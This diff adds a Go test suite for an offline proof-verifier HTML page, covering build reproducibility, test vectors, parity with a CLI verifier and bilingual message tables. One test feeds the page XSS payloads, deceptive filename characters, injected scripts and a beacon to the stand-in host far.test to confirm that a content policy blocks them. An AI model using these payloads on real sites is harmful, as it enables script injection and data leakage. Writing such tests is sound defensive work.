@@ -1,0 +1,462 @@
+package page
+
+import (
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+
+	"edgechain.example/build/testenv"
+	"edgechain.example/build/testenv/program"
+)
+
+const (
+	built   = "../../cmd/internal/verifypage/verify.html"
+	vectors = "../../lightchain/testdata/vectors"
+)
+
+// What is committed is what the sources make. How it is packed is not compared: that is the business of Node's zlib.
+func TestThePageIsWhatItsSourcesMake(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds the page")
+	}
+	modules := testenv.Modules(t, "esbuild")
+	file := filepath.Join(t.TempDir(), "verify.html")
+	cmd := exec.Command(testenv.Program(t, "node"), "build.mjs", file)
+	cmd.Env = append(os.Environ(), "NODE_PATH="+modules)
+	if output, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("%v\n%s", err, output)
+	}
+	made, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	committed, err := os.ReadFile(built)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if bytes.Equal(made, committed) {
+		return
+	}
+	wantFrame, wantProgram := unpacked(t, made)
+	frame, program := unpacked(t, committed)
+	if frame != wantFrame || program != wantProgram {
+		t.Errorf("the page is not what its sources make: NODE_PATH=%s node build/page/build.mjs cmd/internal/verifypage/verify.html", modules)
+	}
+}
+
+var packed = regexp.MustCompile(`(id="program">)([^<]*)(</script>)`)
+
+// unpacked returns a page without its program, and the program: see loader.js.
+func unpacked(t *testing.T, html []byte) (frame, program string) {
+	t.Helper()
+	found := packed.FindSubmatch(html)
+	if found == nil {
+		t.Fatal("a page without a program")
+	}
+	var b []byte
+	for text := string(found[2]); text != ""; text = text[min(5, len(text)):] {
+		letters, n := text[:min(5, len(text))], uint64(0)
+		for i := range 5 {
+			c := byte('|')
+			if i < len(letters) {
+				c = letters[i]
+			}
+			if c == '}' {
+				c = '<'
+			}
+			n = n*85 + uint64(c-'(')
+		}
+		b = append(b, []byte{byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}[:len(letters)-1]...)
+	}
+	z, err := gzip.NewReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatal(err)
+	}
+	text, err := io.ReadAll(z)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return packed.ReplaceAllString(string(html), "$1$3"), string(text)
+}
+
+// A run of the page in a browser; see drive.mjs.
+type run struct {
+	Page     string     `json:"page"`
+	Plain    bool       `json:"plain,omitempty"`
+	Language string     `json:"language,omitempty"`
+	Trust    string     `json:"trust,omitempty"`
+	Files    []evidence `json:"files,omitempty"`
+	Drop     bool       `json:"drop,omitempty"`
+	Script   string     `json:"script,omitempty"`
+	Picture  string     `json:"picture,omitempty"`
+	Dark     bool       `json:"dark,omitempty"`
+	Small    bool       `json:"small,omitempty"`
+}
+
+type evidence struct {
+	Name string `json:"name"`
+	Data []byte `json:"data"`
+}
+
+// What the page then shows.
+type shown struct {
+	Language, Trusted, Tally, Text string
+	Secure, Subtle, Came           bool
+	Images                         int
+	Said                           any
+	Requests, Errors               []string
+	Articles                       []article
+}
+
+type article struct {
+	File, Verdict, Check, Together, Words, Why, Brief string
+	Files, Proved, Beware, NotProved, Times, Steps    []string
+	Facts                                             [][]string
+	Readings                                          [][]string
+	Charts                                            int
+}
+
+// drive opens the page as often as it is told to. Whatever is done to it, it asks nobody for anything.
+func drive(t *testing.T, runs ...run) (all []shown) {
+	t.Helper()
+	if testing.Short() {
+		t.Skip("starts a browser")
+	}
+	for i := range runs {
+		if runs[i].Page == "" {
+			path, err := filepath.Abs(built)
+			if err != nil {
+				t.Fatal(err)
+			}
+			runs[i].Page = path
+		}
+	}
+	testenv.Browser(t, "drive.mjs", runs, &all)
+	for i, s := range all {
+		if len(s.Requests) > 0 {
+			t.Errorf("run %d asks for %q", i, s.Requests)
+		}
+		if len(s.Errors) > 0 && runs[i].Script == "" {
+			t.Errorf("run %d tells of errors: %q", i, s.Errors)
+		}
+	}
+	return all
+}
+
+// A vector is one published case; see its README.
+type vector struct {
+	name                       string
+	Kind, Expect, Check, Trust string
+	Bytes, Other               []byte
+}
+
+func published(t *testing.T, kinds ...string) (all []vector) {
+	t.Helper()
+	files, err := filepath.Glob(filepath.Join(vectors, "*.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, file := range files {
+		b, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var v vector
+		if err := json.Unmarshal(b, &v); err != nil {
+			t.Fatal(err)
+		}
+		if v.name = strings.TrimSuffix(filepath.Base(file), ".json"); slices.Contains(kinds, v.Kind) {
+			all = append(all, v)
+		}
+	}
+	return all
+}
+
+// groups are vectors of one trust file each, not too many at once: they are compared with each other, too.
+func groups(all []vector) (groups [][]vector) {
+	const most = 40
+	at := map[string]int{}
+	for _, v := range all {
+		i, there := at[v.Trust]
+		if !there || len(groups[i]) == most {
+			i = len(groups)
+			at[v.Trust], groups = i, append(groups, nil)
+		}
+		groups[i] = append(groups[i], v)
+	}
+	return groups
+}
+
+func runOf(group []vector, plain bool) run {
+	r := run{Trust: group[0].Trust, Plain: plain}
+	for _, v := range group {
+		r.Files = append(r.Files, evidence{v.name, v.Bytes})
+	}
+	return r
+}
+
+// Each proof, bundle and fork of the vectors, in the page as it is published: once as a file, and once come over plain http, where
+// browsers have no WebCrypto.
+func TestTheVectorsInABrowser(t *testing.T) {
+	all := groups(published(t, "proof", "bundle", "fork"))
+	var runs []run
+	for _, group := range all {
+		runs = append(runs, runOf(group, false), runOf(group, true))
+	}
+	builds := program.NewBuilds("../..", "edgeverify")
+	defer builds.Remove()
+	edgeverify := filepath.Join(builds.Native(t), "edgeverify")
+	looked, unlike, compared := 0, 0, 0
+	for i, s := range drive(t, runs...) {
+		group, plain := all[i/2], i%2 == 1
+		if s.Subtle == plain || s.Secure == plain {
+			t.Errorf("run %d has WebCrypto: %v", i, s.Subtle)
+		}
+		found := map[string]article{}
+		for _, a := range s.Articles {
+			if a.Together == "" {
+				found[a.File] = a
+			}
+		}
+		for _, v := range group {
+			looked++
+			a := found[v.name]
+			if ok := a.Check == "" && a.Verdict != ""; ok != (v.Expect == "ok") || !ok && v.Check != "" && a.Check != v.Check {
+				unlike++
+				t.Errorf("%s: the page says %q, check %q (%s); the vector says %s %s", v.name, a.Verdict, a.Check, a.Why, v.Expect, v.Check)
+			}
+		}
+		if !plain {
+			compared += saysTheSame(t, s.Articles, ask(t, edgeverify, group))
+		}
+	}
+	if looked < 600 || compared < 300 {
+		t.Errorf("%d vectors were looked at, %d compared with what edgeverify says", looked, compared)
+	}
+	t.Logf("%d verdicts, %d unlike those of the vectors; %d reports compared with those of edgeverify", looked, unlike, compared)
+}
+
+func TestPairsInABrowser(t *testing.T) {
+	all := published(t, "pair")
+	var runs []run
+	for _, v := range all {
+		runs = append(runs, run{Trust: v.Trust, Files: []evidence{{"one", v.Bytes}, {"other", v.Other}}})
+	}
+	for i, s := range drive(t, runs...) {
+		together := 0
+		for _, a := range s.Articles {
+			if a.Together != "" {
+				together++
+			}
+		}
+		if apart := together > 0; apart != (all[i].Expect == "fail") {
+			t.Errorf("%s: the page tells of %d contradictions, the vector says %s", all[i].name, together, all[i].Expect)
+		}
+		if together > 0 && s.Articles[0].Together == "" {
+			t.Errorf("%s: what both files show together does not stand first", all[i].name)
+		}
+	}
+}
+
+// What edgeverify says of a file, of it.
+type verifier struct {
+	File, Verdict, Message, Check string
+	Proved, Beware                []string
+	NotProved                     []string `json:"not_proved"`
+	Files                         []string
+	Number, Height                uint64
+	Entry                         *struct {
+		Readings []struct{ Device, Name, Unit string }
+	}
+}
+
+// The page says of each vector what edgeverify says, in the same words. What stands in brackets is in the words of the verifier that
+// found it.
+func saysTheSame(t *testing.T, page []article, said map[string]verifier) (compared int) {
+	t.Helper()
+	for _, a := range page {
+		v, there := said[a.File]
+		if a.Together != "" || !there {
+			continue
+		}
+		compared++
+		if a.Verdict != v.Verdict {
+			t.Errorf("%s: the page says %q, edgeverify %q", a.File, a.Verdict, v.Verdict)
+		}
+		for _, c := range []struct {
+			what       string
+			page, said []string
+		}{{"proved", a.Proved, v.Proved}, {"beware", a.Beware, ended(v.Beware)}, {"not proved", a.NotProved, v.NotProved}} {
+			if !slices.Equal(c.page, c.said) {
+				t.Errorf("%s: %s: the page says\n%s\nedgeverify\n%s", a.File, c.what, strings.Join(c.page, "\n"), strings.Join(c.said, "\n"))
+			}
+		}
+		if v.Verdict != "verified" && plainly(a.Why) != plainly(v.Message) {
+			t.Errorf("%s: the page says\n%s\nedgeverify\n%s", a.File, a.Why, v.Message)
+		}
+	}
+	return compared
+}
+
+func ended(all []string) (sentences []string) {
+	for _, s := range all {
+		sentences = append(sentences, s+".")
+	}
+	return sentences
+}
+
+// plainly leaves out what a verifier adds in its own words: what stands in brackets, and behind a colon.
+func plainly(text string) string {
+	if i := strings.Index(text, " ("); i >= 0 && !strings.HasPrefix(text, "What a person") {
+		return text[:i]
+	}
+	if before, _, found := strings.Cut(text, ": "); found {
+		return before
+	}
+	return text
+}
+
+// ask has edgeverify look at vectors of one trust file.
+func ask(t *testing.T, edgeverify string, group []vector) map[string]verifier {
+	t.Helper()
+	dir := t.TempDir()
+	trust := filepath.Join(dir, "auditor.trust")
+	args := []string{"--trust", trust, "--output", "json", "--"}
+	if err := os.WriteFile(trust, []byte(group[0].Trust), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, v := range group {
+		file := filepath.Join(dir, v.name)
+		if err := os.WriteFile(file, v.Bytes, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		args = append(args, file)
+	}
+	output, _ := exec.Command(edgeverify, args...).Output() // its exit code tells of what it found
+	said := map[string]verifier{}
+	for line := range bytes.Lines(output) {
+		var v verifier
+		if err := json.Unmarshal(line, &v); err != nil {
+			t.Fatalf("%v: %.200s", err, line)
+		}
+		if v.File != "" {
+			said[filepath.Base(v.File)] = v
+		}
+	}
+	return said
+}
+
+// What comes from elsewhere stays text, and what got into the page all the same would not run, and could ask nobody.
+func TestNothingFromElsewhereRuns(t *testing.T) {
+	good := one(t, "proof-good-everything")
+	const evil = `<img src=x onerror=alert(1)>` + "\u202e\x1b[31m.edgeproof"
+	s := drive(t, run{Trust: good.Trust, Files: []evidence{{evil, good.Bytes}, {"<script>alert(2)</script>", []byte(evil)}}},
+		run{Script: `document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror="document.title=1"><p style="color:red" onclick="document.title=2">'), document.querySelector('p[onclick]').click(), getComputedStyle(document.querySelector('p[onclick]')).color`},
+		run{Script: `(() => { const s = document.createElement('script'); s.textContent = 'document.title = 3'; document.body.append(s); return document.title })()`},
+		run{Script: `fetch('https://far.test/').then(() => 'came', e => 'no: ' + e.message)`},
+		run{Script: `new Promise(done => { const i = new Image(); i.onload = i.onerror = e => done(e.type); i.src = 'https://far.test/?' + document.title })`},
+		run{Script: `(() => { try { return String(eval('1+1')) } catch (e) { return 'no: ' + e.name } })()`},
+	)
+	if s[0].Images != 0 || len(s[0].Articles) != 2 {
+		t.Errorf("%d images, %d files", s[0].Images, len(s[0].Articles))
+	}
+	for _, foreign := range []string{"\u202e", "\x1b"} {
+		if strings.Contains(s[0].Text, foreign) {
+			t.Errorf("the page has %q as it is", foreign)
+		}
+	}
+	if !strings.Contains(s[0].Text, `\u202e\x1b[31m.edgeproof"`) {
+		t.Errorf("the file's name is not shown escaped:\n%.600s", s[0].Text)
+	}
+	if said := fmt.Sprint(s[1].Said); said == "rgb(255, 0, 0)" {
+		t.Error("a style of an attribute counts")
+	}
+	if said := fmt.Sprint(s[2].Said); said != "Edgechain verifier" {
+		t.Errorf("a script that was put in ran: %s", said)
+	}
+	for i, want := range map[int]string{3: "no: ", 4: "error", 5: ""} {
+		if said := fmt.Sprint(s[i].Said); !strings.HasPrefix(said, want) {
+			t.Errorf("run %d: %s", i, said)
+		}
+	}
+	for i := range s[1:] {
+		if i != 4 && len(s[i+1].Errors) == 0 && i+1 < 5 {
+			t.Errorf("run %d: the policy refused nothing", i+1)
+		}
+	}
+}
+
+func one(t *testing.T, name string) vector {
+	t.Helper()
+	for _, v := range published(t, "proof", "bundle", "fork") {
+		if v.name == name {
+			return v
+		}
+	}
+	t.Fatalf("no vector %s", name)
+	return vector{}
+}
+
+// Both tables of messages have the same keys and the same places to fill, and say nothing in the other's language.
+func TestBothLanguagesAreWhole(t *testing.T) {
+	const script = `const [a, b] = (await Promise.all(['./english.mjs', './chinese.mjs'].map(f => import(f)))).map(m => m.default);
+		process.stdout.write(JSON.stringify([a, b]))`
+	output, err := exec.Command(testenv.Program(t, "node"), "--input-type=module", "-e", script).Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var tables [2]map[string]string
+	if err := json.Unmarshal(output, &tables); err != nil {
+		t.Fatal(err)
+	}
+	english, chinese := tables[0], tables[1]
+	if len(english) < 200 || len(english) != len(chinese) {
+		t.Errorf("%d messages in English, %d in Chinese", len(english), len(chinese))
+	}
+	hole, han := regexp.MustCompile(`\{\d\}`), regexp.MustCompile(`\p{Han}`)
+	holes := func(text string) []string {
+		all := hole.FindAllString(text, -1)
+		slices.Sort(all)
+		return slices.Compact(all)
+	}
+	for key, text := range english {
+		other, there := chinese[key]
+		switch {
+		case !there || strings.TrimSpace(other) == "" || strings.TrimSpace(text) == "":
+			t.Errorf("%s: not in both tables", key)
+		case text == other:
+			t.Errorf("%s: the same in both: %q", key, text)
+		case !slices.Equal(holes(text), holes(other)):
+			t.Errorf("%s: %v and %v are to be filled in", key, holes(text), holes(other))
+		case !han.MatchString(other) && regexp.MustCompile(`[a-zA-Z]{3}`).MatchString(hole.ReplaceAllString(other, "")):
+			t.Errorf("%s: no Chinese: %q", key, other)
+		case han.MatchString(text):
+			t.Errorf("%s: no English: %q", key, text)
+		}
+	}
+}
+
+// In Chinese no sentence of the page is left in English.
+func TestThePageInChinese(t *testing.T) {
+	good := one(t, "proof-good-everything")
+	s := drive(t, run{Language: "zh-CN", Trust: good.Trust, Files: []evidence{{"a.edgeproof", good.Bytes}}},
+		run{Language: "de-DE"}, run{Language: "de-DE", Script: `document.querySelector('[data-language=zh]').click(), document.documentElement.lang`})
+	if s[0].Language != "zh-Hans" || s[1].Language != "en" || s[2].Language != "zh-Hans" {
+		t.Errorf("languages %s, %s, %s", s[0].Language, s[1].Language, s[2].Language)
+	}
+	if words := regexp.MustCompile(`\b(the|that|which|files|by the)\b`).FindAllString(s[0].Text, -1); len(words) > 0 {
+		t.Errorf("in Chinese it says %q", words)
+	}
+	if len(s[0].Articles) != 1 || s[0].Articles[0].Words != "验证通过" {
+		t.Errorf("of a good proof it says %+v", s[0].Articles)
+	}
+}
